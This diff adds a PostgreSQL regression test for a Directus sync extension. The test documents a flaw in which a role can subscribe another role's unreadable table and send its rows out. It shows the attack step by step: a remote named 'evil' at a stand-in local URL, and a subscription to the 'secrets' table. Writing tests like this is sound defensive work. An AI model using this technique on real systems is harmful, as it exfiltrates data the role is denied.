@@ -1,0 +1,55 @@
+-- Review 7: through the app config, Directus's role subscribes a table of
+-- its schema that it does not own and may not even read (another role's),
+-- and so ships its rows to a URL of its choice: the AFTER trigger of
+-- sync_subscriptions calls subscribe as the extension's owner, which puts
+-- capture and TRUNCATE triggers on the other role's table, and the worker
+-- reads and sends its changes (as the table's owner). "Through the tables it
+-- can do what the SQL functions do" was meant as the configuration of
+-- Directus's own collections, not as a read of tables the role is denied.
+-- Correct: the app's subscription of a table Directus's role cannot SELECT
+-- (or does not own) is refused (42501), nothing subscribed, no trigger made,
+-- nothing queued. The expected output below shows the CURRENT wrong result.
+\set SHOW_CONTEXT never
+\set VERBOSITY terse
+CREATE ROLE regress_r7f_directus;
+CREATE ROLE regress_r7f_other;
+CREATE DATABASE regress_r7_foreign OWNER regress_r7f_directus;
+\c regress_r7_foreign
+CREATE EXTENSION directus_sync;
+SET ROLE regress_r7f_directus;
+\set ECHO none
+\ir t/directus12_system.sql
+\set ECHO all
+RESET ROLE;
+-- Another role's table in Directus's schema, that Directus's role cannot read.
+CREATE TABLE secrets (id serial PRIMARY KEY, secret text);
+ALTER TABLE secrets OWNER TO regress_r7f_other;
+SET client_min_messages = warning;
+SELECT directus_sync.enable_app_config();
+RESET client_min_messages;
+SET ROLE regress_r7f_directus;
+SELECT * FROM secrets;
+\echo :LAST_ERROR_SQLSTATE
+INSERT INTO sync_remotes (name, url, token, paused) VALUES ('evil', 'http://127.0.0.1:9/', 'secret-token-evil', true);
+-- Correct: refused (42501). Now: accepted.
+INSERT INTO sync_subscriptions (remote, collection, fields)
+SELECT id, 'secrets', '["secret"]' FROM sync_remotes WHERE name = 'evil' RETURNING collection;
+RESET ROLE;
+-- Correct: no subscription, no trigger on the other role's table.
+SELECT remote_id, collection, fields FROM directus_sync.subscription;
+SELECT tgname FROM pg_trigger WHERE tgrelid = 'secrets'::regclass AND NOT tgisinternal ORDER BY tgname;
+-- The other role writes its table: correct: nothing queued for the remote.
+SET ROLE regress_r7f_other;
+INSERT INTO secrets (secret) VALUES ('the other role''s secret');
+RESET ROLE;
+SELECT r.name, o.collection, o.item_key, o.payload
+  FROM directus_sync.outbox o JOIN directus_sync.remote r ON r.id = o.remote_id;
+
+SET client_min_messages = warning;
+SELECT FROM directus_sync.remove_remote('evil');
+SELECT directus_sync.disable_app_config();
+RESET client_min_messages;
+\c contrib_regression
+DROP DATABASE regress_r7_foreign;
+DROP ROLE regress_r7f_directus;
+DROP ROLE regress_r7f_other;
